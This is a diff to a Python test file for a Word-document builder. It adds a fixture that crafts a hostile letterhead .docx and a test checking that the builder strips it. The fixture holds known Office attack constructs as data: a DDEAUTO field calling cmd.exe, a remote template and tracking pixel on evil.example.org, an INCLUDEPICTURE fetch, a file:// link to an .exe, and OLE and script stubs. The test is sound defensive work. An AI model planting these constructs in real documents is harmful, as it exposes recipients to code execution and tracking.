@@ -11,8 +11,9 @@ import pytest
 from coplan.errors import BadInput
 from coplan.prose.markdown.read import read_markdown
 from coplan.word.file.mark import DraftMark, read_mark
-from coplan.word.file.names import w
-from coplan.word.file.package import TYPES, Package, open_package
+from coplan.word.file.names import R, W, w
+from coplan.word.file.package import OFFICE, TYPES, Package, open_package, related, relations_name, xml_bytes
+from coplan.word.file.package import typed as with_type
 from coplan.word.file.page import text_width
 from coplan.word.read.document import read_word
 from coplan.word.track.pending import parse
@@ -195,6 +196,93 @@ def test_a_letterhead_keeps_its_header_and_gets_the_styles_that_it_lacks():
         "Consolas",
     ]
     assert [b.texts for b in read_word(open_package(content, "x")).blocks] == [b.texts for b in read_markdown(TEXT)]
+
+
+EVIL_RELATIONS = [
+    ("word/document.xml", "oleObject", "embeddings/o.bin", ""),
+    ("word/document.xml", "aFChunk", "chunk.html", ""),
+    ("word/document.xml", "comments", "comments.xml", ""),
+    ("word/settings.xml", "attachedTemplate", "https://evil.example.org/t.dotm", "External"),
+    ("word/header1.xml", "image", "https://evil.example.org/pixel.png", "External"),
+    ("word/header1.xml", "oleObject", "embeddings/o.bin", ""),
+    ("word/header1.xml", "hyperlink", "file://evil/share/x.exe", "External"),
+    ("word/header1.xml", "hyperlink", "https://county.example.org", "External"),
+    ("", "custom-properties", "docProps/custom.xml", ""),
+]
+EVIL_HEADER = (
+    f'<w:hdr xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p><w:r><w:t>County of Juniper</w:t></w:r>'
+    '<w:r><w:drawing><a:blip r:link="rIdE4"/></w:drawing></w:r>'
+    '<w:r><w:object><o:OLEObject r:id="rIdE5"/></w:object></w:r>'
+    '<w:hyperlink r:id="rIdE6"><w:r><w:t>Click</w:t></w:r></w:hyperlink>'
+    '<w:hyperlink r:id="rIdE7"><w:r><w:t>Our page</w:t></w:r></w:hyperlink>'
+    '<w:r><w:instrText> INCLUDEPICTURE "https://evil.example.org/a.png" </w:instrText></w:r>'
+    '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>'
+)
+
+
+def evil_letterhead() -> bytes:
+    """A letterhead that would fetch, run and tell."""
+    from docx import Document
+
+    document, out = Document(), io.BytesIO()
+    document.sections[0].header.paragraphs[0].text = "County"
+    document.core_properties.author = "jdoe"
+    document.save(out)
+    package = open_package(out.getvalue(), "evil")
+    settings = package.parts["word/settings.xml"].decode()
+    inside = '<w:attachedTemplate r:id="rIdE3"/><w:documentProtection w:edit="readOnly"/></w:settings>'
+    settings = settings.replace("</w:settings>", inside).replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
+    if settings.count("xmlns:r=") > 1:
+        settings = settings.replace(f'xmlns:r="{R}" ', "", 1)
+    package = package.replaced(
+        {
+            "word/header1.xml": EVIL_HEADER.encode(),
+            "word/settings.xml": settings.encode(),
+            "word/embeddings/o.bin": b"MZ",
+            "word/chunk.html": b"<script>",
+            "word/comments.xml": f'<w:comments xmlns:w="{W}"/>'.encode(),
+            "docProps/custom.xml": b"<p/>",
+        }
+    )
+    for number, (part, kind, target, mode) in enumerate(EVIL_RELATIONS):
+        package, made = related(package, part, f"{OFFICE}/{kind}", target)
+        relations = relations_name(part)
+        root = package.xml(relations)
+        [item] = [item for item in root if item.get("Id") == made]
+        item.set("Id", f"rIdE{number}")
+        if mode:
+            item.set("TargetMode", mode)
+        package = package.replaced({relations: xml_bytes(root)})
+    return with_type(package, "word/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject").save()
+
+
+def test_a_letterhead_brings_nothing_that_fetches_runs_or_tells():
+    look = Look("T", letterhead=evil_letterhead(), letterhead_name="evil.docx")
+    made = open_package(build(read_markdown(TEXT), look, DraftMark("memo", TEXT)), "x")
+    everything = b"".join(made.parts.values())
+    assert [
+        name for name in made.parts if "embeddings" in name or name.endswith((".html", "custom.xml", "comments.xml"))
+    ] == []
+    for words in (
+        b"evil",
+        b"OLEObject",
+        b"INCLUDEPICTURE",
+        b"DDEAUTO",
+        b"documentProtection",
+        b"jdoe",
+        b"attachedTemplate",
+    ):
+        assert words not in everything, words
+    assert b"County of Juniper" in made.parts["word/header1.xml"]
+    assert b"Our page" in made.parts["word/header1.xml"]
+    used = {value for key, value in attributes(made, "word/header1.xml") if key.startswith(f"{{{R}}}")}
+    there = {item.get("Id") for item in made.xml(relations_name("word/header1.xml"))}
+    assert used == there == {"rIdE7"}
+
+
+def attributes(package, part):
+    return [pair for element in package.xml(part).iter() for pair in element.attrib.items()]
 
 
 def test_every_part_has_a_type_and_no_type_is_without_its_part():
